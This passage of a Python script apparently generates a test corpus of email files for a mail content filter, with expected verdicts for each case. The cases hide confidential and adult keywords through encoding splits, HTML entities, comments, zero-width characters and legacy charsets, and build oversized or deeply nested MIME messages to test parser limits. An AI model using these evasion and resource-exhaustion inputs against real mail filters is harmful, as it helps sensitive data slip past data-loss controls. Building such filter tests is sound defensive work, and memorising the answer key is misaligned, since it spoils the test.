    return ("why: %s\npart: 0 %s\nkeyword: %s\nmime: ok\n%s"
            % (why, part0, keyword or '"%s" (list secret) in %s' % (word, where), verdict))


@case("keyword-subject-2047-split.eml")
def _():
    subj = "=?UTF-8?B?%s?= =?UTF-8?Q?con_update?=" % base64.b64encode(b"Project fal").decode()
    return (kw(subj, "text/plain; charset=us-ascii", "7bit", "See you at the meeting.\n"),
            kw_facts("the keyword split across two RFC 2047 encoded words (B then Q); the space between them is dropped",
                     "type=text/plain charset=us-ascii", where="subject (\"Project falcon update\")"))


@case("keyword-base64-text.eml")
def _():
    k = 0
    while True:
        text = "Hello team,\n\nstatus: " + "very " * k + "good; project falcon ships on Friday.\n\nNora\n"
        at = text.index("project falcon")
        if at < 57 < at + len("project falcon"):
            break
        k += 1
    return (kw("Status", "text/plain; charset=utf-8", "base64", b64(text.encode())),
            kw_facts("the keyword in base64 text, straddling two encoded lines (57-byte groups)",
                     "type=text/plain charset=utf-8"))


@case("keyword-qp-soft-break.eml")
def _():
    body = "Hello team,\n\nthe kickoff of project fal=\ncon is moved to Monday.\n\nNora\n"
    return (kw("Kickoff", "text/plain; charset=us-ascii", "quoted-printable", body),
            kw_facts("the keyword cut by a quoted-printable soft line break (fal=CRLF con)",
                     "type=text/plain charset=us-ascii"))



@case("keyword-qp-lowercase-hex.eml")
def _():
    body = "Hello team,\n\nthe kickoff of pro=6aect f=61l=63on is moved; =ZZ stays as written.\n"
    return (kw("Kickoff", "text/plain; charset=us-ascii", "quoted-printable", body),
            kw_facts("quoted-printable escapes inside the keyword, one in lower-case hex (=6a, =61, =63) and an invalid =ZZ kept literally",
                     "type=text/plain charset=us-ascii"))

@case("keyword-html-tags.eml")
def _():
    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
               "<html><body><p>The kickoff of project fal<b>con</b> is on Monday.</p></body></html>\n"),
            kw_facts("the keyword split by inline tags: fal<b>con</b>", "type=text/html charset=us-ascii"))


@case("keyword-html-entity.eml")
def _():
    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
               "<html><body><p>The kickoff of project fal&#99;on is on Monday.</p></body></html>\n"),
            kw_facts("a letter of the keyword as a numeric character reference: fal&#99;on", "type=text/html charset=us-ascii"))


@case("keyword-html-entity-hex-named.eml")
def _():
    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
               "<html><body><p>The kickoff of project&nbsp;&#x66;&#X61;lcon is on Monday.</p></body></html>\n"),
            kw_facts("hex references (&#x66; &#X61;) and &nbsp; as the space inside the phrase",
                     "type=text/html charset=us-ascii"))


@case("keyword-html-shy.eml")
def _():
    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
               "<html><body><p>The kickoff of project fal&shy;con is on Monday.</p></body></html>\n"),
            kw_facts("an invisible soft hyphen inside the keyword: fal&shy;con", "type=text/html charset=us-ascii"))


@case("keyword-html-comment.eml")
def _():
    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
               "<html><body><p>The kickoff of project fal<!-- x -->con is on Monday.</p></body></html>\n"),
            kw_facts("an HTML comment inside the keyword: fal<!-- x -->con", "type=text/html charset=us-ascii"))


@case("keyword-line-break.eml")
def _():
    return (kw("Kickoff", "text/plain; charset=us-ascii", "7bit",
               "Hello team,\n\nthe kickoff of the project\nfalcon budget is on Monday.\n"),
            kw_facts("the phrase broken across two lines (a line break counts as the space)",
                     "type=text/plain charset=us-ascii"))


@case("keyword-zero-width.eml")
def _():
    text = "Hello team,\n\nthe kickoff of project fal\u200bc\u200don is on Monday.\n"
    return (kw("Kickoff", "text/plain; charset=utf-8", "quoted-printable", qp(text)),
            kw_facts("zero-width space U+200B and zero-width joiner U+200D inside the keyword (QP UTF-8)",
                     "type=text/plain charset=utf-8"))


@case("keyword-windows-1252.eml")
def _():
    text = "Sehr geehrte Damen und Herren,\n\ndies ist ein Geschäftsgeheimnis \u2013 bitte nicht weitergeben.\n"
    return (kw("Vertraulich", "text/plain; charset=windows-1252", "quoted-printable", qp(text, "windows-1252")),
            kw_facts("the keyword in windows-1252 QP (a-umlaut =E4), matched after conversion to UTF-8",
                     "type=text/plain charset=windows-1252", word="geschäftsgeheimnis"))


@case("keyword-koi8r.eml")
def _():
    text = "Коллеги,\n\nдокумент совершенно секретно, не пересылайте.\n"
    return (head("Document", frm="Pavel <pavel@partner.test>").encode()
            + b"Content-Type: text/plain; charset=koi8-r\nContent-Transfer-Encoding: 8bit\n\n" + text.encode("koi8-r"),
            kw_facts("the keyword in koi8-r 8bit text, matched after conversion to UTF-8",
                     "type=text/plain charset=koi8-r", word="секретно"))


@case("keyword-attachment-name-only.eml")
def _():
    h, b = attach("project falcon.pdf", pdf_doc("Plan"), "application/pdf")
    return (mixed("Plan", h, b, text="The plan is attached.\n", frm="Nora <nora@partner.test>"),
            "why: the keyword only in an attachment's file name: a name is not text, so no keyword fact\n"
            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
            'part: 2 type=application/pdf disp=attachment name="project falcon.pdf" ext=pdf truetype=pdf\n'
            "keyword: none\nmime: ok\nverdict: accept")


@case("keyword-wholeword-essex.eml")
def _():
    return (kw("Essex trip", "text/plain; charset=us-ascii", "7bit",
               "We drive through Essex and Middlesex to Sussex; bring the sextant, the sexton waits.\n"),
            "why: whole-word list <adult> (\"sex\"): Essex, Middlesex, Sussex, sextant, sexton must not match\n"
            "part: 0 type=text/plain charset=us-ascii\nkeyword: none\nmime: ok\nverdict: accept")


@case("keyword-wholeword-sex.eml")
def _():
    return (kw("Tonight", "text/plain; charset=us-ascii", "7bit", "The film tonight: Sex, Lies, and Videotape.\n"),
            "why: whole-word list <adult> (\"sex\"): \"Sex,\" is a whole word, matched caseless\n"
            "part: 0 type=text/plain charset=us-ascii\nkeyword: \"sex\" (list adult) in part 0\nmime: ok\n"
            "verdict: accept, tag subject \"[ADULT]\" (keyword <adult>)")


# ================================================================ limits


@case("limit-nesting-50.eml")
def _():
    msg = head("Deep") + 'Content-Type: multipart/mixed; boundary="n00"\n\n'
    for k in range(1, 50):
        msg += '--n%02d\nContent-Type: multipart/mixed; boundary="n%02d"\n\n' % (k - 1, k)
    msg += "--n49\nContent-Type: text/plain\n\nbottom\n"
    for k in range(49, -1, -1):
        msg += "--n%02d--\n" % k
    return msg, """why: 50 nested multipart/mixed levels, a text part at the bottom (no client needs more than a handful)
part: 0..49 type=multipart/mixed (one per level; parts below the depth limit are not opened)
part: 50 type=text/plain charset=us-ascii (only if the depth limit were over 50)
keyword: none
mime: limit (nesting depth)
verdict: reject (mime limit)"""


@case("limit-parts-2000.eml", eol="lf")
def _():
    msg = head("Many") + 'Content-Type: multipart/mixed; boundary="b"\n\n' + "--b\n\n" * 2000 + "--b--\n"
    return msg, """why: 2,000 empty parts (each a delimiter and a blank line); LF line ends to keep the file small
part: 0 type=multipart/mixed
part: 1..2000 type=text/plain charset=us-ascii (empty; parts past the parts limit are not opened)
keyword: none
mime: limit (parts)
verdict: reject (mime limit)"""


@case("limit-header-100k.eml")
def _():
    junk = "x" * (100 * 1024)
    h, b = attach("a.txt", b"hello\n", "text/plain")
    msg = mixed("Long", 'Content-Type: text/plain; x-junk="%s"\nContent-Disposition: attachment; filename="a.txt"\n'
                'Content-Transfer-Encoding: base64\n' % junk, b)
    return msg, """why: a part header line of 100 KB (a Content-Type parameter of 102,400 x's), unfolded
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
(part 2, whose header block holds the long line, is never opened: the limit is reached inside it)
keyword: none
mime: limit (header line length)
verdict: reject (mime limit)"""


@case("limit-boundary-10000.eml")
def _():
    bd = ("=_" + "0123456789" * 1000)[:10000]
    msg = (head("Long boundary") + 'Content-Type: multipart/mixed; boundary="%s"\n\n--%s\n' % (bd, bd)
           + "Content-Type: text/plain\n\nhello\n--%s--\n" % bd)
    return msg, """why: a 10,000-byte boundary (RFC 2046 allows 70): more than a delimiter line may hold
part: 0 type=multipart/mixed
keyword: none
mime: limit (boundary length)
verdict: reject (mime limit)"""


@case("limit-boundary-70.eml")
def _():
    bd = ("'()+_,-./:=?" + "ab0123456789" * 6)[:70]
    assert len(bd) == 70
    msg = (head("Longest legal boundary") + 'Content-Type: multipart/mixed; boundary="%s"\n\n--%s\n' % (bd, bd)
           + "Content-Type: text/plain\n\nhello\n--%s--\n" % bd)
    return msg, """why: a 70-byte boundary, the RFC 2046 maximum, using every special character bchars allows
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
keyword: none
mime: ok
verdict: accept"""


# ================================================================ driver


def main():
    names, manifest, large = set(), [], []
    for name, eol, fn in CASES:
        assert name not in names, name
        names.add(name)
        msg, facts = fn()
        if isinstance(msg, str):
            msg = msg.encode("utf-8")
        data = eol_fix(msg, eol)
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        kind = {"crlf": "CRLF", "lf": "LF", "raw": "mixed (as built: see why)"}[eol]
        extra = ""
        if len(data) > SMALL:
            large.append(name)
            extra = "large: %d bytes (over 16 KB on purpose)\n" % len(data)
        manifest.append("file: %s\neol: %s\n%s%s\n" % (name, kind, extra, facts.strip()))
    assert len(large) <= 5, large
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "MANIFEST.head")) as f:
        headtext = f.read()
    with open(os.path.join(OUT, "MANIFEST"), "w") as f:
        f.write(headtext + "\n" + "\n\n".join(manifest) + "\n")
    print("make-corpus: %d files, %d large: %s" % (len(CASES), len(large), ", ".join(large)))


if __name__ == "__main__":
    main()
